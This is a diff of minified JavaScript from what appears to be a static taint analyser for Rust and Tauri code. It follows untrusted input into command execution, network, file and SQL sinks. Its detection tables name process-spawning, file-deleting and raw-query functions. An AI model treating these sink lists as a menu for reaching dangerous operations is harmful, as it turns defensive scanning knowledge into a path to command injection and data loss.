+un",1,"tauri_plugin_opener::open_path tauri_plugin_opener::open_url"],["network",0,"reqwest::get blocking::get ureq::get ureq::post ureq::put ureq::delete ureq:\
+:patch ureq::head"],["network",0,"minreq::get minreq::post attohttpc::get attohttpc::post surf::get surf::post isahc::get ureq::request"],["network",0,"TcpStrea\
+m::connect UnixStream::connect tokio_tungstenite::connect_async tungstenite::connect connect::connect_async"],["network",0,"Request::get Request::post Request::\
+put Request::delete Request::patch Request::head"],["network",0,"isahc::get_async isahc::post isahc::post_async Proxy::all Proxy::http Proxy::https"],["network",
+0,"PgPool::connect MySqlPool::connect AnyPool::connect Database::connect"],["network",1,"Request::new ureq::request"],["window",0,"WebviewUrl::External WindowUr\
+l::External WebviewUrl::CustomProtocol"],["window",0,"WebviewUrl::App WindowUrl::App"],["sql",0,"sqlx::query sqlx::query_as sqlx::query_scalar sqlx::raw_sql die\
+sel::sql_query dsl::sql_query"],["sql",0,"QueryBuilder::new QueryBuilder::with_arguments"]],FUNCTIONS_OF_ANY=[[/^(?:system|popen|exec[lv]\w{0,2}|posix_spawnp?|dlopen|sh_dangerous|WinExec)$/,
 "run","any"],[/^(?:LoadLibrary|LoadPackagedLibrary|ShellExecute|CreateProcess)\w*$/,"run","any"],[/^(?:remove_(?:file|dir|dir_all|items)|create_dir(?:_all)?|hard_link|symlink\w*)$/,
 "change-files","any"],[/^(?:copy_(?:items|dir|dir_all|recursively)|move_(?:items|dir|file))$/,"change-files","any"],[/^(?:extract(?:_to|_all|_archive)?|unpack|unzip|untar|decompress_file\w*)$/,
 "change-files","any"],[/^(?:atomic_write|write_atomic|write_file|write_to_file)$/,"change-files","any"],[/^(?:read_to_string|read_dir|read_file|read_file_to_\w+)$/,
@@ -6668,44 +6703,40 @@ whenFalse:NOTHING4,says:null}}function learnedBy(pattern,value,env,closed){const
 pattern:pattern,text3=textOf5(code2,inner);if(isLiterals(inner,env))return closed;const name=pathOf(code2,inner).at(-1)??pathOf(code2,inner.children[0]??inner).
 at(-1);if(name==="Ok"||name==="Some"||text3==="true"){const content=inner.children.filter(({field:field3})=>field3!=="type");return content.length>0&&content.every(
 each=>isLiterals(each,env))?closed:value.whenTrue}return name==="Err"||name==="None"||text3==="false"?value.whenFalse:NOTHING4}function isLiterals(pattern,env){
-return pattern.kind==="or_pattern"?pattern.children.every(each=>isLiterals(each,env)):literalIn(env.frame.code,pattern)!==void 0}function change(place,values,env){
-const{code:code2}=env.frame;if(place.kind==="identifier"||place.kind==="self"){const name=textOf5(code2,place),known13=env.get(name)??EMPTY2;env.update(name,{...known13,
-fields:null,from:joined7([known13,...values])});return}const[on3,field3]=[fieldOf(place,"value"),fieldOf(place,"field")];if(place.kind==="field_expression"&&on3!==
-void 0&&field3!==void 0&&(on3.kind==="identifier"||on3.kind==="self")){const known13=env.get(textOf5(code2,on3))??EMPTY2,name=textOf5(code2,field3),fields3=new Map(
-known13.fields??[]).set(name,valueWith({from:joined7([partOf2(known13,name),...values])}));env.update(textOf5(code2,on3),{...known13,fields:fields3,from:joined7(
-[known13,...values])});return}const inner=fieldOf(place,"value")??place.children[0];inner!==void 0&&change(inner,values,env)}var CHECKS={"a closed list":"any","\
-a pattern":"any","a comparison":"any","a scope":"any","its characters":"any","its number":"any","a canonical path":"none","its folder":"path","no parent folder":"\
-path","a file name alone":"path","its host":"url","its scheme":"url","a fixed host":"url","JSON text":"script"},GROUPS={run:["any","path","url"],script:["any","\
-script"],update:["any","url"],"change-files":["any","path"],"read-files":["any","path"],network:["any","url"],window:["any","url"],sql:["any"]};function countsFor(check,power){
-return GROUPS[power].includes(CHECKS[check])}var ASKED={contains:"a closed list",contains_key:"a closed list",is_allowed:"a scope",matches:"a scope",allows:"a s\
-cope",is_match:"a pattern",matches_path:"a scope"},FILE_NAME=new Set(["file_name","file_stem","file_prefix","extension"]),CANONICAL=new Set("canonicalize canoni\
-cal absolutize absolutize_from normalize clean simplified soft_canonicalize realpath".split(" ")),PARTS={host:"host",host_str:"host",domain:"host",origin:"host",
-scheme:"scheme"},OTHER_PARTS=new Set(["extension","query","fragment","port","path"]),PARSED_AS=/^(?:Uuid::(?:parse_str|from_str|try_parse)|[iu](?:8|16|32|64|128|size)::from_str|IpAddr::from_str)$/;
-function checkInClosure(text3){if(/\bParentDir\b|Component::Normal\b/.test(text3))return"no parent folder";if(/\bis_(?:ascii_)?(?:alphanumeric|alphabetic|digit|hexdigit|numeric)\b/.
-test(text3))return"its characters"}function closedBy(value){return checkedAs(value,"a closed list")}function checkedAs({from,part},otherwise){return part==="oth\
-er"?NOTHING4:factsOf(from,part==="host"?"its host":part==="scheme"?"its scheme":otherwise)}function ofOperator(operator,left2,right){switch(operator){case"&&":return valueWith(
+return pattern.kind==="or_pattern"?pattern.children.every(each=>isLiterals(each,env)):literalIn(env.frame.code,pattern)!==void 0}function bindParameters({file:file2,
+owner,node},self,given2,inside){const parameters=fieldOf(node,"parameters")?.children??[],values=[...given2],own=parameters.some(({kind})=>kind==="self_paramete\
+r")?self??values.shift()??EMPTY2:null;own!==null&&inside.set("self",{...own,type:own.type??owner}),parameters.filter(({kind})=>kind==="parameter").forEach((parameter,index)=>{
+const[pattern,type]=[fieldOf(parameter,"pattern"),fieldOf(parameter,"type")],value=values[index]??EMPTY2,named12=type===void 0?null:innerName(file2,type);pattern!==
+void 0&&bind(pattern,{...value,type:value.type??named12},inside)})}function change(place,values,env){const{code:code2}=env.frame;if(place.kind==="identifier"||place.
+kind==="self"){const name=textOf5(code2,place),known13=env.get(name)??EMPTY2;env.update(name,{...known13,fields:null,from:joined7([known13,...values])});return}
+const[on3,field3]=[fieldOf(place,"value"),fieldOf(place,"field")];if(place.kind==="field_expression"&&on3!==void 0&&field3!==void 0&&(on3.kind==="identifier"||on3.
+kind==="self")){const known13=env.get(textOf5(code2,on3))??EMPTY2,name=textOf5(code2,field3),fields3=new Map(known13.fields??[]).set(name,valueWith({from:joined7(
+[partOf2(known13,name),...values])}));env.update(textOf5(code2,on3),{...known13,fields:fields3,from:joined7([known13,...values])});return}const inner=fieldOf(place,
+"value")??place.children[0];inner!==void 0&&change(inner,values,env)}var CHECKS={"a closed list":"any","a pattern":"any","a comparison":"any","a scope":"any","i\
+ts characters":"any","its number":"any","a canonical path":"none","its folder":"path","no parent folder":"path","a file name alone":"path","its host":"url","its\
+ scheme":"url","a fixed host":"url","JSON text":"script"},GROUPS={run:["any","path","url"],script:["any","script"],update:["any","url"],"change-files":["any","p\
+ath"],"read-files":["any","path"],network:["any","url"],window:["any","url"],sql:["any"]};function countsFor(check,power){return GROUPS[power].includes(CHECKS[check])}
+var ASKED={contains:"a closed list",contains_key:"a closed list",is_allowed:"a scope",matches:"a scope",allows:"a scope",is_match:"a pattern",matches_path:"a sc\
+ope"},FILE_NAME=new Set(["file_name","file_stem","file_prefix","extension"]),CANONICAL=new Set("canonicalize canonical absolutize absolutize_from normalize clea\
+n simplified soft_canonicalize realpath".split(" ")),PARTS={host:"host",host_str:"host",domain:"host",origin:"host",scheme:"scheme"},OTHER_PARTS=new Set(["exten\
+sion","query","fragment","port","path"]),PARSED_AS=/^(?:Uuid::(?:parse_str|from_str|try_parse)|[iu](?:8|16|32|64|128|size)::from_str|IpAddr::from_str)$/;function checkInClosure(text3){
+if(/\bParentDir\b|Component::Normal\b/.test(text3))return"no parent folder";if(/\bis_(?:ascii_)?(?:alphanumeric|alphabetic|digit|hexdigit|numeric)\b/.test(text3))
+return"its characters"}function closedBy(value){return checkedAs(value,"a closed list")}function checkedAs({from,part},otherwise){return part==="other"?NOTHING4:
+factsOf(from,part==="host"?"its host":part==="scheme"?"its scheme":otherwise)}function ofOperator(operator,left2,right){switch(operator){case"&&":return valueWith(
 {whenTrue:together2(left2.whenTrue,right.whenTrue),whenFalse:both2(left2.whenFalse,right.whenFalse)});case"||":return valueWith({whenTrue:both2(left2.whenTrue,right.
 whenTrue),whenFalse:together2(left2.whenFalse,right.whenFalse)});case"==":return valueWith({whenTrue:compared2(left2,right),whenFalse:NOTHING4});case"!=":return valueWith(
 {whenTrue:NOTHING4,whenFalse:compared2(left2,right)});default:return valueWith({})}}function compared2(left2,right){return isTainted(left2)===isTainted(right)?NOTHING4:
 checkedAs(isTainted(left2)?left2:right,"a comparison")}function operatorOf2(text3,{children:[left2,right]}){return left2===void 0||right===void 0?"":text3.slice(
-left2.end,right.start).replace(/\/\*[\s\S]*?\*\/|\/\/[^\n]*/g,"").trim()}var WRAPPERS=new Set("Result Option Arc Rc Box State Mutex RwLock RefCell Cow Pin Mutex\
-Guard".split(" "));function isWrapper(name){return name!==void 0&&WRAPPERS.has(name)}function typeNameOf({file:file2,owner,node}){const type=fieldOf(node,"retur\
-n_type"),name=type===void 0?null:innerName(file2,type);return name==="Self"?owner:name}function innerName(file2,type){const name=pathOf(file2,type).at(-1)??null,
-inner=type.kind==="reference_type"?fieldOf(type,"type"):type,given2=inner===void 0?void 0:childOf(inner,"type_arguments"),[first]=given2?.children.filter(({kind})=>kind!==
-"lifetime")??[];return name!==null&&WRAPPERS.has(name)&&first!==void 0?innerName(file2,first):name}function makesFunction({file:file2,node}){const type=fieldOf(
-node,"return_type");return type!==void 0&&/\b(?:Fn|FnMut|FnOnce|fn)\s*\(/.test(textOf5(file2,type))}function fieldTypeOf(app,type,field3){if(type===null)return null;
-for(const{node,file:file2}of app.types(type)){const body=fieldOf(node,"body"),at2=/^\d+$/.test(field3)?body?.children.filter(each=>each.field==="type")[Number(field3)]:
-body?.children.flatMap(each=>{const name=fieldOf(each,"name");return name!==void 0&&textOf5(file2,name)===field3?fieldOf(each,"type")??[]:[]})[0];if(at2!==void 0)
-return innerName(file2,at2)}return null}function ofBlock(walk2,node,env){const[first]=node.children;return first?.kind==="label"?leaving(env,way=>statements(walk2,
-node,way)):statements(walk2,node,env)}function statements(walk2,{children},env){const tails=[];let isOfSome=!1;for(const child of children){if(env.ended)break;if(child.
-kind==="attribute_item"){isOfSome||=attributeOf(env.frame.code,child).path.at(-1)==="cfg";continue}const way=isOfSome?env.fork():env,value=walk2.value(child,way);
-isOfSome&&env.meet([env.fork(),way]),(isOfSome||child===children.at(-1))&&!way.ended&&!isStatement(child,env)&&tails.push(value),isOfSome=!1}const[first=EMPTY2,
-...others]=tails;return env.ended?EMPTY2:others.reduce(either2,first)}function isStatement({kind,end},{frame}){return kind==="let_declaration"||kind==="empty_st\
-atement"?!0:kind==="expression_statement"&&frame.code.text[end-1]===";"}function ofLet(walk2,node,env){const[pattern,given2,type,alternative]=["pattern","value",
-"type","alternative"].map(field3=>fieldOf(node,field3)),value=given2===void 0?EMPTY2:walk2.value(given2,env);if(pattern===void 0)return EMPTY2;const isNumber2=type!==
-void 0&&NUMBER4.test(textOf5(env.frame.code,type)),named12=type===void 0?null:innerName(env.frame.code,type),isChanged=childOf(node,"mutable_specifier")!==void 0,
-kept={...value,type:value.type??named12,...isNumber2&&{from:NOTHING4},...isChanged&&{says:null}};return alternative!==void 0?(walk2.value(alternative,env.fork(value.
-whenFalse)),env.learn(learnedBy(pattern,value,env,NOTHING4)),bind(pattern,contentOf2(kept),env)):bind(pattern,kept,env),EMPTY2}var NUMBER4=/^(?:[iuf](?:8|16|32|64|128|size)|bool|char|Uuid|uuid::Uuid|(?:std::net::)?IpAddr)$/;
+left2.end,right.start).replace(/\/\*[\s\S]*?\*\/|\/\/[^\n]*/g,"").trim()}function ofBlock(walk2,node,env){const[first]=node.children;return first?.kind==="label"?
+leaving(env,way=>statements(walk2,node,way)):statements(walk2,node,env)}function statements(walk2,{children},env){const tails=[];let isOfSome=!1;for(const child of children){
+if(env.ended)break;if(child.kind==="attribute_item"){isOfSome||=attributeOf(env.frame.code,child).path.at(-1)==="cfg";continue}const way=isOfSome?env.fork():env,
+value=walk2.value(child,way);isOfSome&&env.meet([env.fork(),way]),(isOfSome||child===children.at(-1))&&!way.ended&&!isStatement(child,env)&&tails.push(value),isOfSome=
+!1}const[first=EMPTY2,...others]=tails;return env.ended?EMPTY2:others.reduce(either2,first)}function isStatement({kind,end},{frame}){return kind==="let_declarat\
+ion"||kind==="empty_statement"?!0:kind==="expression_statement"&&frame.code.text[end-1]===";"}function ofLet(walk2,node,env){const[pattern,given2,type,alternative]=[
+"pattern","value","type","alternative"].map(field3=>fieldOf(node,field3)),value=given2===void 0?EMPTY2:walk2.value(given2,env);if(pattern===void 0)return EMPTY2;
+const isNumber2=type!==void 0&&NUMBER4.test(textOf5(env.frame.code,type)),named12=type===void 0?null:innerName(env.frame.code,type),isChanged=childOf(node,"muta\
+ble_specifier")!==void 0,kept={...value,type:value.type??named12,...isNumber2&&{from:NOTHING4},...isChanged&&{says:null}};return alternative!==void 0?(walk2.value(
+alternative,env.fork(value.whenFalse)),env.learn(learnedBy(pattern,value,env,NOTHING4)),bind(pattern,contentOf2(kept),env)):bind(pattern,kept,env),EMPTY2}var NUMBER4=/^(?:[iuf](?:8|16|32|64|128|size)|bool|char|Uuid|uuid::Uuid|(?:std::net::)?IpAddr)$/;
 function ofIf(walk2,node,env){const[condition,consequence,alternative]=["condition","consequence","alternative"].map(field3=>fieldOf(node,field3)),asked4=condition===
 void 0?EMPTY2:walk2.value(condition,env),ways=[env.fork(asked4.whenTrue),env.fork(asked4.whenFalse)],values=[consequence,alternative].map((branch,index)=>branch===
 void 0?EMPTY2:walk2.value(branch,ways[index]??env));return met(env,ways,values)}function met(env,ways,values){env.meet(ways);const open=ways.flatMap((way,index)=>way.
@@ -6723,27 +6754,27 @@ way),{way,value:walk2.value(body,way)}}),given2!==void 0){const[looked,does]=[te
 test(does)&&/\b(?:return|Err|bail!|panic!)/.test(does);looked.includes(".components()")&&isRefused&&env.learn(factsOf(value.from,"no parent folder"))}return EMPTY2}
 function ofWhile(walk2,node,env){const[condition,body]=[fieldOf(node,"condition"),fieldOf(node,"body")];return repeated2(env,()=>{const asked4=condition===void 0?
 EMPTY2:walk2.value(condition,env),way=env.fork(asked4.whenTrue);return{way,value:body===void 0?EMPTY2:walk2.value(body,way)}}),EMPTY2}var MOST_ROUNDS3=3;function repeated2(env,round){
-for(let rounds=0;rounds<MOST_ROUNDS3;rounds+=1){const before2=env.fork(),first=env.frame.leaves.length,{way}=round();if(env.meet([env.fork(),way,...env.frame.leaves.
-splice(first).map(leave=>leave.way)]),!env.holdsMoreThan(before2))return}}function ofLoop(walk2,node,env){const body=fieldOf(node,"body");if(body===void 0)return EMPTY2;
-let value=EMPTY2;for(let rounds=0;rounds<MOST_ROUNDS3&&!env.ended;rounds+=1){const before2=env.fork();if(rounds>0&&env.meet([before2,env.fork()]),value=leaving(
-env,way=>walk2.value(body,way)),env.ended&&/\bbreak\b/.test(textOf5(env.frame.code,body))&&(env.ended=!1),!env.holdsMoreThan(before2))break}return value}function leaving(env,run){
+for(let rounds=0;rounds<MOST_ROUNDS3;rounds+=1){const before3=env.fork(),first=env.frame.leaves.length,{way}=round();if(env.meet([env.fork(),way,...env.frame.leaves.
+splice(first).map(leave=>leave.way)]),!env.holdsMoreThan(before3))return}}function ofLoop(walk2,node,env){const body=fieldOf(node,"body");if(body===void 0)return EMPTY2;
+let value=EMPTY2;for(let rounds=0;rounds<MOST_ROUNDS3&&!env.ended;rounds+=1){const before3=env.fork();if(rounds>0&&env.meet([before3,env.fork()]),value=leaving(
+env,way=>walk2.value(body,way)),env.ended&&/\bbreak\b/.test(textOf5(env.frame.code,body))&&(env.ended=!1),!env.holdsMoreThan(before3))break}return value}function leaving(env,run){
 const first=env.frame.leaves.length,way=env.fork(),value=run(way),leaves2=[{way,value},...env.frame.leaves.splice(first)];return met(env,leaves2.map(leave=>leave.
 way),leaves2.map(leave=>leave.value))}function outcomeOf3(env,tail){const exits=[...env.frame.exits];env.ended||exits.push({value:tail,checked:env.checked});const[
 first,...others]=exits.map(({value,checked:checked5})=>withChecked(value,checked5));if(first===void 0)return{value:EMPTY2,always:NOTHING4};const checked4=exits.
 map(exit=>exit.checked);return{value:others.reduce(either2,first),always:checked4.reduce(both2)}}function frameOf(at2){const{code:code2,owner,depth}=at2;return{
 code:code2,owner,depth,exits:[],leaves:[],own:new Set,written:new Set}}var Env=class _Env{frame;#names;checked;ended=!1;constructor(frame,names4=new Map,checked4=NOTHING4){
 this.frame=frame,this.#names=new Map(names4),this.checked=checked4}get(name){return this.#names.get(name)}set(name,value){this.frame.own.add(name),this.#names.set(
-name,value)}update(name,value){this.frame.written.add(name),this.#names.set(name,value)}takeBack(inside){for(const name of inside.frame.written){const[before2,after2]=[
-this.get(name),inside.get(name)];inside.frame.own.has(name)||after2===void 0||this.update(name,before2===void 0?after2:either2(before2,after2))}}holdsMoreThan(earlier){
+name,value)}update(name,value){this.frame.written.add(name),this.#names.set(name,value)}takeBack(inside){for(const name of inside.frame.written){const[before3,after2]=[
+this.get(name),inside.get(name)];inside.frame.own.has(name)||after2===void 0||this.update(name,before3===void 0?after2:either2(before3,after2))}}holdsMoreThan(earlier){
 return[...this.#names].some(([name,{from}])=>{const known13=earlier.get(name)?.from;return known13!==void 0&&[...from.keys()].some(source=>!known13.has(source))})}learn(facts){
 this.checked=together2(this.checked,facts)}fork(facts=NOTHING4,frame=this.frame){return new _Env(frame,this.#names,together2(this.checked,facts))}meet(ways){const open=ways.
 filter(({ended})=>!ended),[first,...others]=open;if(first===void 0){this.ended=!0;return}const names4=new Map(first.#names);for(const way of others)for(const[name,
 value]of way.#names){const known13=names4.get(name);names4.set(name,known13===void 0?value:either2(known13,value))}this.#names=names4,this.checked=others.reduce(
 (checked4,way)=>both2(checked4,way.checked),first.checked)}},parsed4=new WeakMap,FAULTS=new Set(["ERROR",TOO_DEEP]);function macroArguments(parser,{text:text3},tokens){
 const known13=parsed4.get(tokens);if(known13!==void 0)return known13;const inside=text3.slice(tokens.start+1,tokens.end-1),found12=insideOf3(parser,"fn f() { f(",
-inside,") }",tokens.start+1,"arguments")??insideOf3(parser,"fn f() {",inside,"}",tokens.start+1,"block");return parsed4.set(tokens,found12),found12}function insideOf3(parser,before2,inside,after2,start,kind){
-const tree=parser.parse(before2+inside+after2);if("fault"in tree||within2(tree.root,FAULTS).length>0)return null;const[list]=within2(tree.root,new Set([kind]));
-return list===void 0?null:list.children.map(child=>movedBy(child,start-before2.length))}function movedBy(node,by){const children=node.children.map(child=>movedBy(
+inside,") }",tokens.start+1,"arguments")??insideOf3(parser,"fn f() {",inside,"}",tokens.start+1,"block");return parsed4.set(tokens,found12),found12}function insideOf3(parser,before3,inside,after2,start,kind){
+const tree=parser.parse(before3+inside+after2);if("fault"in tree||within2(tree.root,FAULTS).length>0)return null;const[list]=within2(tree.root,new Set([kind]));
+return list===void 0?null:list.children.map(child=>movedBy(child,start-before3.length))}function movedBy(node,by){const children=node.children.map(child=>movedBy(
 child,by));return{...node,start:node.start+by,end:node.end+by,children}}var TELLS_ONLY=new Set("len is_empty exists try_exists is_file is_dir is_absolute is_rel\
 ative is_symlink starts_with ends_with contains eq ne cmp partial_cmp eq_ignore_ascii_case metadata symlink_metadata count capacity hash finish position rpositi\
 on is_ok is_err is_some is_none is_char_boundary is_ascii any all".split(" ")),TAKES_IN=new Set("join resolve with_file_name with_extension replace replacen rep\
@@ -6781,60 +6812,96 @@ new Set(["string_literal","raw_string_literal"]));if(patterns3.length>0&&texts2.
 const{code:code2}=env.frame;STOPS.has(name)&&(env.ended=!0);const all=valueWith({from:joined7(namedIn2(tokens,env))});if(name==="json")return valueWith({from:passed(
 all.from,"JSON text")});if(name==="matches"){const check=checkInClosure(textOf5(code2,tokens));return check===void 0?EMPTY2:valueWith({whenFalse:factsOf(all.from,
 check)})}return RUNS2.test(name)&&walk2.reach([{power:"run",argument:0}],`${name}!`,[all],env,tokens),isTainted(all)&&POWERFUL.test(textOf5(code2,tokens))&&walk2.
-lose(`the macro ${name}!`,env,tokens),all}var OF_VALUE=["drop","fmt","deref","deref_mut","next","index","as_ref","serialize"],OF_OPERATOR={"+":"add","-":"sub","\
-*":"mul","/":"div","%":"rem","<<":"shl",">>":"shr","|":"bitor","&":"bitand","^":"bitxor","==":"eq","!=":"eq"},OF_CONVERSION={into:["from","into"],try_into:["try\
-_from","try_into"],parse:["from_str"]},DOES2=/\b(?:fs|File|Command|eval|open|open_path|open_url|reqwest|connect|get|post|crate|super|unsafe|remove_\w+)\b/;function runsOfValue(walk2,value,env,at2){
-if(!(value.type===null||!isTainted(value)))for(const name of OF_VALUE){const own=owned(walk2,name).filter(({owner})=>owner===value.type);own.length>0&&walk2.follow(
-own,value,[],env,at2)}}function runsOfOperator(walk2,operator,left2,right,env,at2){const name=Object.hasOwn(OF_OPERATOR,operator)?OF_OPERATOR[operator]:void 0;if(name===
-void 0||!(isTainted(left2)||isTainted(right)))return;const own=owned(walk2,name);own.length>0&&walk2.follow(own,left2,[right],env,at2)}function runsOfConversion(walk2,method,self,wanted,env,at2){
-if(!isTainted(self)||!Object.hasOwn(OF_CONVERSION,method))return;const type=/(\w+)\s*(?:<.*)?$/s.exec(wanted)?.[1],own=(OF_CONVERSION[method]??[]).flatMap(name=>owned(
-walk2,name)).filter(({owner})=>type===void 0||type==="_"||owner===type);own.length>0&&walk2.follow(own,null,[self],env,at2)}function owned(walk2,name){return walk2.
-app.functions(name).filter(({owner,file:file2,node})=>{if(owner===null)return!1;const does=telling.get(node)??DOES2.test(textOf5(file2,fieldOf(node,"body")??node));
-return telling.set(node,does),does})}var telling=new WeakMap;function ofOperation(walk2,node,env){const[first,second]=node.children;if(first===void 0||second===
-void 0)return EMPTY2;const operator=operatorOf2(env.frame.code.text,node),left2=walk2.value(first,env),isLazy=operator==="&&"||operator==="||",right=walk2.value(
-second,isLazy?env.fork(operator==="&&"?left2.whenTrue:left2.whenFalse):env);if(runsOfOperator(walk2,operator,left2,right,env,node),operator!=="+")return ofOperator(
-operator,left2,right);const from=joined7([left2,right]),{literal:literal3}=left2;return valueWith({from:literal3!==null&&namesHost(literal3)?passed(from,"a fixe\
-d host"):from,literal:literal3})}function ofAssignment(walk2,node,env){const[to,given2]=[fieldOf(node,"left"),fieldOf(node,"right")];if(to===void 0||given2===void 0)
-return EMPTY2;const value=walk2.value(given2,env);return node.kind==="assignment_expression"&&to.kind==="identifier"?env.update(textOf5(env.frame.code,to),{...value,
-says:null}):change(to,[value],env),EMPTY2}function ofStruct(walk2,node,env){const{code:code2}=env.frame,fields3=new Map,rest2=[],keep2=(name2,value)=>{const known13=fields3.
-get(name2);fields3.set(name2,known13===void 0?value:either2(known13,value))};for(const each of fieldOf(node,"body")?.children??[]){const[name2,given2]=[fieldOf(
-each,"field"),fieldOf(each,"value")];if(each.kind==="field_initializer"&&name2!==void 0&&given2!==void 0)keep2(textOf5(code2,name2),walk2.value(given2,env));else if(each.
-kind==="shorthand_field_initializer")for(const inner of each.children)keep2(textOf5(code2,inner),walk2.value(inner,env));else rest2.push(...each.children.map(inner=>walk2.
-value(inner,env)))}const name=fieldOf(node,"name"),values=[...fields3.values(),...rest2],type=name===void 0?null:pathOf(code2,name).at(-1)??null;for(const[field3,
-value]of rest2[0]?.fields??[])fields3.has(field3)||fields3.set(field3,value);const made2=valueWith({from:joined7(values),fields:fields3,type});return runsOfValue(
-walk2,made2,env,node),made2}function ofMethod(walk2,call2,env){const{name,self,given:given2,literals,at:at2}=call2,own=ownMethods(walk2,call2,env);if(own.length>
-0)return walk2.follow(own,self,given2,env,at2);const sinks=sinksOfMethod(name,`${self.type??""} ${call2.written}`,call2.isSent);if(sinks.length>0)return walk2.reach(
-sinks,name,given2,env,at2),MAKES_PROGRAM.has(name)?valueWith({type:"Command",literal:literals[0]??null}):sinks.some(({power:power2})=>power2!=="network")?valueWith(
-{type:self.type}):valueWith({type:"Request"});runsOfConversion(walk2,name,self,call2.wanted,env,at2);const power=METHODS_OF_INPUT.get(name);if(power!==void 0&&walk2.
-reach([{power,argument:0}],name,[self],env,at2),self.type==="Command")return ofCommand(walk2,call2,env);const looked=checked(call2,env);return looked!==void 0?looked:
-passedOn(walk2,call2,env)}function ownMethods(walk2,{name,self,given:given2},env){if(!given2.some(isTainted)&&!isTainted(self))return[];const named12=walk2.app.
-functions(name).filter(({owner})=>owner!==null),type=self.type==="Self"?env.frame.owner:self.type,typed=named12.filter(({owner})=>owner===type);return typed.length>
-0||COMMON.has(name)?typed:type!==null&&walk2.app.types(type).length===0&&!named12.some(({owner})=>owner===null)?namedByTraits(named12):named12}function namedByTraits(named12){
-return named12.filter(({owner})=>owner?.endsWith("Ext"))}var MAKES_PROGRAM=new Set(["command","sidecar"]),TAKES_ARGUMENTS=new Set(["arg","args","raw_arg"]);function ofCommand(walk2,call2,env){
-const{name,self,given:given2,literals,at:at2}=call2,program2=self.literal;if(name==="env"&&loadsMore(literals[0]??null)&&walk2.reach([{power:"run",argument:1}],
-`env ${literals[0]}`,given2,env,at2),name==="env"&&walk2.reach([{power:"run",argument:0}],"env",given2,env,at2),!TAKES_ARGUMENTS.has(name))return self;const words4=wordsIn2(
-call2,env),shows=words4.find(word2=>onlyShows(program2,word2));if(shows!==void 0)return{...self,literal:`${program2} ${shows}`};const isShell2=program2===null&&
-words4.some(announcesScript);return(isShell2||isRunner2(program2))&&walk2.reach([{power:"run",argument:0}],`${program2??"a shell"} \u2026`,given2,env,at2),isShell2?
-{...self,literal:"sh"}:self}function wordsIn2({name,at:at2},{frame}){const text3=textOf5(frame.code,at2);return text3.slice(text3.lastIndexOf(`${name}(`)).match(
-/"[^"\\\n]{0,300}"/g)?.map(each=>each.slice(1,-1))??[]}function checked({name,self,given:given2,literals,written:written6,at:at2},env){const[first=EMPTY2]=given2,
-{code:code2}=env.frame;if(isTainted(self)){if(name==="starts_with"&&!isTainted(first))return valueWith({whenTrue:beginning(self,literals[0]??null,AS_TEXT.test(written6))});
-if(name==="strip_prefix"&&!isTainted(first))return valueWith({from:self.from,whenTrue:beginning(self,literals[0]??null,AS_TEXT.test(written6))});if(name==="eq"||
-name==="eq_ignore_ascii_case")return valueWith({whenTrue:isTainted(first)?NOTHING4:factsOf(self.from,"a comparison")});if(CANONICAL.has(name))return{...self,from:passed(
-self.from,"a canonical path")};if(FILE_NAME.has(name))return valueWith({from:passed(self.from,"a file name alone"),part:name==="extension"?"other":null});const part=PARTS[name]??
-(OTHER_PARTS.has(name)?"other":void 0);if(part!==void 0&&Object.hasOwn(PARTS,name))return{...valueWith({from:self.from}),part};if(part!==void 0&&self.type==="Ur\
-l")return{...valueWith({from:self.from}),part};const check=checkInClosure(textOf5(code2,at2).slice(textOf5(code2,at2).lastIndexOf(name)));return check!==void 0&&
-name==="any"?valueWith({whenFalse:factsOf(self.from,check)}):check!==void 0&&name==="all"?valueWith({whenTrue:factsOf(self.from,check)}):void 0}if(name in ASKED&&
-Object.hasOwn(ASKED,name)&&given2.some(isTainted)){const check=ASKED[name]??"a closed list";return valueWith({whenTrue:factsAbout(first,check)})}}var AS_TEXT=/\b(?:to_string_lossy|to_str|to_string|display|into_string)\b|\b(?:str|text|string|\w+_str)$/;
+lose(`the macro ${name}!`,env,tokens),all}var OWN2=new Set(["crate","self","super"]),MOST_RENAMINGS=4;function resolved2(app,code2,path){const found12=new Map,visit=(each,left2)=>{
+const name=each.join("::");if(each.length===0||found12.has(name)||(found12.set(name,each),left2===0))return;const[first="",...rest2]=each,own=left2===MOST_RENAMINGS?
+code2.uses.get(first):void 0;for(const used of own??[])(used.length>1||used[0]!==first)&&visit([...used,...rest2],left2-1);if(each.length===1&&left2===MOST_RENAMINGS)
+for(const glob of code2.globs)visit([...glob,first],left2-1);const last=each.at(-1)??"";if(OWN2.has(first)||each.length===1||left2<MOST_RENAMINGS||isModule(app,
+code2,first))for(const exported of app.exported(last))visit(exported,left2-1);const before3=each.at(-2);if(before3!==void 0&&each.length>2)for(const exported of app.
+exported(before3))visit([...exported,last],left2-1);for(const{path:meant}of isConstant(last)?app.constants(last):[])meant!==null&&visit(meant,left2-1);if(before3!==
+void 0)for(const other of[...app.aliases(before3),...app.globsOf(before3)])visit([...other,last],left2-1)};return visit(path,MOST_RENAMINGS),[...found12.values()]}
+function isConstant(name){return/^[A-Z][A-Z\d_]*$/.test(name)}function isModule(app,{file:file2},name){return app.modules.has(name)||modulesIn(file2).has(name)}
+function functionsAt(app,code2,paths3,owner){const found12=new Set;for(const path of paths3){const name=path.at(-1)??"",before3=path.at(-2)==="Self"?owner??"Sel\
+f":path.at(-2),named12=app.functions(name);for(const each of named12)isMeant(app,each,before3,code2)&&found12.add(each);const[only2,...others]=named12;found12.size===
+0&&isOwnPath(path)&&only2!==void 0&&others.length===0&&found12.add(only2)}return[...found12]}function isOwnPath([first=""]){return OWN2.has(first)}function isMeant(app,each,before3,code2){
+const{path}=each.file.file;return before3===void 0?each.owner===null&&(each.file===code2||app.isIncluded(path,code2)):each.owner!==null?each.owner===before3||/^[A-Z]\d?$/.
+test(before3):OWN2.has(before3)?before3!=="self"||each.file===code2||each.modules.length===0:app.isModule(path,before3)||each.modules.at(-1)===before3}var OF_CONVERSION={
+into:["from","into"],try_into:["try_from","try_into"],parse:["from_str"]},HARMLESS6=new Set([...[SAME,TELLS_ONLY,UNWRAPS,HANDS_ON3,TAKES_IN,CHANGES3].flatMap(names4=>[
+...names4]),..."fmt from default parse collect trim split rsplit keys values enumerate rev min max sum as_bytes bytes chars lines".split(" "),..."to_lowercase t\
+o_uppercase to_string_lossy to_str as_i64 as_u64 as_f64 as_bool as_array as_object display kind".split(" "),..."write_char pad alternate finish field debug_stru\
+ct debug_tuple debug_list entries get_ref first last next add sub".split(" "),..."serialize_str serialize_struct serialize_field serialize_map serialize_entry e\
